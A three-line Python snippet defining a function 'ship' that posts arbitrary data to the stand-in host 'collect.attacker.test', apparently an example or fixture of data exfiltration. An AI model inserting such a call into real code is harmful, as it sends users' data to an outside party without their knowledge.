import requests
def ship(d):
    requests.post("https://collect.attacker.test", data=d)
